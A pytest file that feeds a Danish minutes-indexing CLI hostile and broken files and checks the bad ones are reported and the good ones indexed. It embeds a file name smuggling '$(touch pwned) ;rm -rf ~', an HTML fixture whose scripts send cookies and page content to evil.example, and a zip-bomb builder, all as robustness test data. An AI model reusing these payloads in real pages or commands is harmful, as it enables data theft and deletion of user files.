"""Hostile and broken input through `referat ingest`: each bad file is reported by name with a reason, the
good files of the same run are indexed with their Danish letters intact, nothing already indexed is lost,
and nothing is written outside the index directory.

The corpus is made at test time (the 50 MB file too); the CLI runs in process with the hash embedder.
"""

from __future__ import annotations

import json
import os
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from robust_kit import HAVNEN, INJECTION, ROKLUBBEN, ÆBLEHAVEN, minutes
from typer.testing import CliRunner

from rag.index import Index
from ui.cli import app

pytestmark = pytest.mark.usefixtures("hash_cli")

runner = CliRunner()

# A name no file system objects to but every layer could trip on: rich markup, shell syntax, a tab,
# quotes, Danish letters, dots; it is given to the CLI through a `../` path.
ODD_NAME = "..Referat byråd [red]5. marts[bold] $(touch pwned) ;rm -rf ~ 'endelig'\t«v2» \\[x].txt"


@dataclass(frozen=True)
class Bad:
    """A file that must be reported: its name and a fragment of the reason given for it."""

    name: str
    reason: str


def _pdf(text: str) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.add_font("DejaVu", "", "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
    pdf.set_font("DejaVu", size=10)
    for line in text.splitlines():
        pdf.multi_cell(0, 5, line or " ", new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def _encrypted_pdf(plain: bytes) -> bytes:
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(plain)).pages:
        writer.add_page(page)
    # RC4: AES would need `cryptography`, which is not installed
    writer.encrypt(user_password="hemmelig", owner_password="ejer", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def _zip_bomb(path: Path, expanded: int) -> None:
    """A .docx whose document.xml inflates to `expanded` bytes of blanks (a few hundred KB on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types/>')
        with z.open("word/document.xml", "w") as f:
            block = b" " * (1 << 20)
            for _ in range(expanded >> 20):
                f.write(block)


SCRIPTED_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Referat</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{background:url(https://tracker.example/px.gif)}</style></head>
<body onload="alert('onload')"><script src="https://cdn.example/malware.js"></script>
<div class="cookie-banner">Vi bruger cookies <button onclick="alert(1)">OK</button></div>
<iframe src="https://evil.example/frame"></iframe>
<h1>Referat af møde i Teknik- og Miljøudvalget, Søholm Kommune, den 12. september 2023</h1>
<h2>Punkt 1. Godkendelse af dagsorden</h2><p>Beslutning</p><p>Godkendt.</p>
<script>fetch('https://evil.example/steal',{method:'POST',body:document.body.innerHTML})</script>
<h2>Punkt 2. Vejbump på Kirkestræde</h2><p>Sagsfremstilling</p>
<p>Beboerne på Kirkestræde ønsker vejbump <img src=x onerror="alert('img')">mod for høj fart.</p>
<p>Beslutning</p><p>Udvalget godkendte tre vejbump på Kirkestræde.</p>
<noscript><img src="https://tracker.example/noscript.gif"></noscript>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<template><script>alert('template')</script></template>
</body></html>
"""


def build_corpus(root: Path) -> tuple[list[Path], list[Bad], dict[str, str]]:
    """Write the corpus under `root/docs`. Returns the CLI arguments, the bad files and, for each good
    file, a Danish phrase that must come out of the index exactly as written."""
    docs = root / "docs"
    (docs / "under").mkdir(parents=True)
    bad: list[Bad] = []
    good: dict[str, str] = {}

    (docs / "tom.txt").write_bytes(b"")
    bad.append(Bad("tom.txt", "is empty (0 bytes)"))
    (docs / "kun_mellemrum.md").write_text(" \n\t\n  \n", encoding="utf-8")
    bad.append(Bad("kun_mellemrum.md", "is empty"))
    (docs / "tilfældige_bytes.pdf").write_bytes(os.urandom(64_000))
    bad.append(Bad("tilfældige_bytes.pdf", "is not a PDF file"))
    (root / "program.exe").write_bytes(b"MZ\x90\x00\x03" + os.urandom(4000))
    bad.append(Bad("program.exe", "unsupported file type '.exe'"))

    (docs / "referat_cp1252.txt").write_bytes(ÆBLEHAVEN.encode("cp1252"))
    good["referat_cp1252.txt"] = "Renovering af Æblehavens Børnehave"
    latin1 = ÆBLEHAVEN.replace("Børne- og Skoleudvalget", "Ældrerådet").replace("7. juni", "14. juni")
    (docs / "referat_latin1.txt").write_bytes(latin1.encode("latin-1"))
    good["referat_latin1.txt"] = "fodgængerfelt over Ålevej"
    utf16 = HAVNEN.replace("12. september", "19. september")
    (docs / "referat_utf16.txt").write_bytes(utf16.encode("utf-16"))  # with a byte-order mark, as Notepad saves
    good["referat_utf16.txt"] = "badebro på havnens østmole"
    nobom = HAVNEN.replace("12. september", "26. september")
    (docs / "referat_utf16_uden_bom.txt").write_bytes(nobom.encode("utf-16-le"))
    good["referat_utf16_uden_bom.txt"] = "fællesøer ved strandvejene"

    pdf = _pdf(HAVNEN.replace("12. september", "3. oktober"))
    (docs / "afkortet.pdf").write_bytes(pdf[: len(pdf) // 2])
    bad.append(Bad("afkortet.pdf", "truncated or damaged PDF"))
    (docs / "krypteret.pdf").write_bytes(_encrypted_pdf(pdf))
    bad.append(Bad("krypteret.pdf", "is encrypted (password-protected)"))
    (docs / "havnen_oktober.pdf").write_bytes(pdf)
    good["havnen_oktober.pdf"] = "Søholm Vinterbadere"

    with open(docs / "kæmpe.txt", "wb") as f:  # 50 MB of real minutes text, not a sparse file
        block = (ÆBLEHAVEN + "\n\n").encode("utf-8")
        for _ in range(50_000_000 // len(block) + 1):
            f.write(block)
    bad.append(Bad("kæmpe.txt", "over the limit of 20.0 MB"))

    (docs / "scripts.html").write_text(SCRIPTED_HTML, encoding="utf-8")
    good["scripts.html"] = "tre vejbump på Kirkestræde"
    (docs / "dyb.html").write_text("<div>" * 200_000 + "Punkt 1. Dyb" + "</div>" * 200_000, encoding="utf-8")
    bad.append(Bad("dyb.html", "nested too deeply"))

    _zip(docs / "ødelagt.docx", {"[Content_Types].xml": b"<Types", "word/document.xml": b"<w:document"})
    bad.append(Bad("ødelagt.docx", "is not a valid .docx file"))
    _zip_bomb(docs / "zipbombe.docx", 300 << 20)
    bad.append(Bad("zipbombe.docx", "unpacks to"))
    (docs / "gammel.doc").write_bytes(b"\xd0\xcf\x11\xe0" + os.urandom(2000))  # named as skipped, not an error
    (docs / "~$referat.docx").write_bytes(b"\x0bJens Hansen" + b"\x00" * 150)  # Word's lock file: skipped

    (docs / "under" / ODD_NAME).write_text(
        minutes("Byrådet", "5. marts 2024", [("Salg af Gl. Skole i Ørby", "Skolen er tom.", "Byrådet solgte skolen.")]),
        encoding="utf-8",
    )
    good[ODD_NAME] = "Salg af Gl. Skole i Ørby"
    (docs / "injektion.txt").write_text(ROKLUBBEN, encoding="utf-8")
    good["injektion.txt"] = INJECTION

    (docs / "dato_fejl.txt").write_text(ÆBLEHAVEN.replace("Børne-", "Social-"), encoding="utf-8")
    (docs / "dato_fejl.meta.json").write_text('{"date": "2023-02-30"}', encoding="utf-8")
    bad.append(Bad("dato_fejl.txt", "real calendar date"))

    for year in ("2023", "2024"):  # two files of one name in two folders: both kept
        (docs / year).mkdir()
        (docs / year / "referat.md").write_text(HAVNEN.replace("2023", year), encoding="utf-8")
        good[f"{year}/referat.md"] = "badebroen ved Søholm Havn"

    args = [docs, root / "program.exe", docs / "under" / ".." / "under" / ODD_NAME]
    return args, bad, good


def _tree(root: Path, skip: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if skip not in p.parents and p != skip}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path], list[Bad], dict[str, str]]:
    root = tmp_path_factory.mktemp("hostile")
    args, bad, good = build_corpus(root)
    return root, args, bad, good


def _key(path: str, docs: Path) -> str:
    p = Path(path)
    return str(p.relative_to(docs)) if p.parent.name in ("2023", "2024") else p.name


def test_each_bad_file_is_reported_and_the_good_ones_indexed(
    corpus: tuple[Path, list[Path], list[Bad], dict[str, str]], tmp_path: Path
) -> None:
    root, args, bad, good = corpus
    index = tmp_path / "index"
    seeded = runner.invoke(app, ["ingest", str(_seed(tmp_path)), "--index", str(index)])
    assert seeded.exit_code == 0, seeded.output
    before = Index.load(index)
    outside = _tree(root, index) | _tree(tmp_path, index)

    result = runner.invoke(app, ["ingest", *map(str, args), "--index", str(index), "--json"])

    assert result.exit_code == 1, result.output  # some files failed, and the run says so
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    reports = {_key(r["path"], root / "docs"): r for r in lines if "path" in r}  # one per file, then a summary
    assert lines[-1]["summary"]["failed"] == len(bad)
    for b in bad:
        assert b.name in reports, f"{b.name} not reported"
        assert b.reason in (reports[b.name]["error"] or ""), (b.name, reports[b.name])
    assert "~$referat.docx" not in reports  # Word's lock file is not a document
    for name in good:
        assert reports[name]["error"] is None, (name, reports[name])
    assert len(reports) == len(bad) + len(good)

    after = Index.load(index)
    texts = {d: " ".join(c.text for c in after.chunks_of(d)) for d in after.documents}
    for name, phrase in good.items():
        doc_id = reports[name]["doc_id"]
        assert phrase in texts[doc_id], (name, phrase)
    scripts = texts[reports["scripts.html"]["doc_id"]]
    assert not any(s in scripts for s in ("alert", "evil.example", "cookie", "<", "tracker"))
    assert after.chunks_of("tidligere") == before.chunks_of("tidligere")  # nothing already indexed is lost
    assert after.documents["tidligere"] == before.documents["tidligere"]
    assert reports[ODD_NAME]["doc_id"] in after.documents and "/" not in reports[ODD_NAME]["doc_id"]
    assert _tree(root, index) | _tree(tmp_path, index) == outside  # nothing written outside the index


def test_the_report_names_every_bad_file_with_its_reason(
    corpus: tuple[Path, list[Path], list[Bad], dict[str, str]], tmp_path: Path
) -> None:
    _, args, bad, _ = corpus
    result = runner.invoke(app, ["ingest", *map(str, args), "--index", str(tmp_path / "index")])

    assert result.exit_code == 1
    flat = " ".join(result.stderr.split())  # rich wraps long lines
    failures = flat.split("FEJL ")[1:]
    for b in bad:
        line = next((f for f in failures if b.name.split("/")[-1] in f and b.reason in f), None)
        assert line, f"no line names {b.name} with {b.reason!r}:\n{result.stderr}"
    assert len(failures) == len(bad)
    assert "Springer over" in flat and "gammel.doc: unsupported file type '.doc'" in flat
    assert " ".join(ODD_NAME.split()) in " ".join(result.stdout.split())  # printed as it is, not as markup


def _seed(tmp_path: Path) -> Path:
    seed = tmp_path / "seed" / "tidligere.txt"
    seed.parent.mkdir()
    seed.write_text(
        minutes("Økonomiudvalget", "2. maj 2023", [("Budget", "Rammen er 1,2 mia. kr.", "Godkendt.")]), encoding="utf-8"
    )
    return seed
